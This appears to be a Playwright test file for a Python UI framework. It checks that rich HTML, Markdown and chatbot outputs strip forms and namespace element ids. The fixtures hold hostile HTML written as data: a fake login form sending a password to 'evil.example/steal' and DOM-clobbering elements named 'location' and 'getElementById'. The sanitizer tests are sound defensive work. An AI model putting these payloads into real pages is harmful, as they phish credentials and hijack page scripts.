"""Sanitized HTML in Chromium: no forms (phishing, navigating the app away) and no id / name that
clobbers the page's globals, in HTML, Markdown and Chatbot outputs (issue 9, item 8); a gr.HTML
template's own literal ids are kept (its js_on_load finds them), a value's are not."""

from __future__ import annotations

from playwright.sync_api import Page, expect

import reactive as rx
from tests.browser.conftest import Serve, open_app

HOSTILE = (
    '<p>before</p><form action="https://evil.example/steal" id="loginForm">'
    '<input name="password" type="password"><button formaction="https://evil.example/x">'
    "Log in</button></form>"
    '<img id="reactive" name="location" src="data:,"><a id="getElementById" href="#">a</a>'
)


def hostile_app() -> rx.App:
    app = rx.App(title="hostile")

    @app.fn(
        inputs=[],
        outputs=[rx.HTML(elem_id="html"), rx.Markdown(elem_id="md"), rx.Chatbot(elem_id="chat")],
        trigger=rx.Button("Show", elem_id="show"),
    )
    def show() -> tuple[str, str, list[dict[str, str]]]:
        return HOSTILE, "*md* " + HOSTILE, [{"role": "assistant", "content": HOSTILE}]

    return app


def test_forms_and_clobbering_names_do_not_survive_in_any_rich_output(
    page: Page, serve: Serve
) -> None:
    open_app(page, serve(hostile_app()))
    page.locator("#show button").click()
    for output in ("#html", "#md", "#chat"):
        expect(page.locator(output)).to_contain_text("before")
        assert page.locator(f"{output} form").count() == 0
        assert page.locator(f"{output} [formaction]").count() == 0
        assert page.locator(f"{output} [action]").count() == 0
        img = page.locator(f"{output} img").first
        assert (img.get_attribute("id") or "").startswith("user-content-")
    # Named elements no longer shadow the page's globals.
    assert page.evaluate("typeof window.reactive") == "undefined"
    assert page.evaluate("typeof window.loginForm") == "undefined"
    assert page.evaluate("typeof document.getElementById") == "function"
    assert page.evaluate("window.location.href").startswith("http://127.0.0.1")


#: Finds the template's own button and heading by id (Gradio's super_html does so).
BY_ID_ON_LOAD = """
    const load = element.querySelector('#load');
    const status = element.querySelector('#status');
    load.addEventListener('click', () => { status.textContent = 'loaded'; });
"""
#: A value that tries to take the template's ids (its button first) and the page's globals.
CLOBBERING_VALUE = (
    '<button id="load">fake</button><img id="reactive" name="loginForm" src="data:,">'
)


def template_ids_app() -> rx.Blocks:
    with rx.Blocks() as demo:
        rx.HTML(
            CLOBBERING_VALUE,
            html_template=(
                "<div>${value}</div><p id='status'>idle</p><button id=\"load\">Load</button>"
                "<span id='cookie'>c</span><i id=\"row-${'x'}\">r</i>"
            ),
            css_template="#status { color: rgb(0, 128, 0); }",
            js_on_load=BY_ID_ON_LOAD,
            elem_id="tpl",
        )
    return demo


def test_a_template_keeps_its_own_ids_while_a_value_s_cannot_clobber(
    page: Page, serve: Serve
) -> None:
    open_app(page, serve(template_ids_app()))
    status = page.locator("#tpl .rx-html p")
    expect(status).to_have_attribute("id", "status")
    expect(status).to_have_css("color", "rgb(0, 128, 0)")  # css_template's #status applies
    page.locator("#tpl button", has_text="fake").click()  # the value's button is not the one
    expect(status).to_have_text("idle")
    page.locator("#tpl button", has_text="Load").click()  # js_on_load found the author's button
    expect(status).to_have_text("loaded")
    # The value's button and image keep their prefixed ids: they took nothing.
    fake = page.locator("#tpl button", has_text="fake")
    expect(fake).to_have_attribute("id", "user-content-load")
    img = page.locator("#tpl .rx-html img")
    expect(img).to_have_attribute("id", "user-content-reactive")
    expect(img).to_have_attribute("name", "user-content-loginForm")
    assert page.evaluate("typeof window.reactive") == "undefined"
    assert page.evaluate("typeof window.loginForm") == "undefined"
    # Even the template's own id may not be a name the document has (document.cookie), and an id
    # made from an expression is a value's.
    assert page.locator("#tpl .rx-html span").get_attribute("id") is None
    expect(page.locator("#tpl .rx-html i")).to_have_attribute("id", "user-content-row-x")
